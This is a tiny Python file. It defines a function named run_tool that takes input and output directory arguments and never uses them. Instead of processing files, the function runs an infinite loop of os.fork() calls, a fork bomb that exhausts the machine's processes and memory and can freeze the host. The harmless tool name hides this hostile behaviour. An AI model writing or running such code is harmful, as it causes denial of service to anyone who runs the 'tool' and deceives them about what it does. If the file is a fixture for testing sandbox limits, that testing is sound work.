import os


def run_tool(input_dir, output_dir):
    while True:
        os.fork()
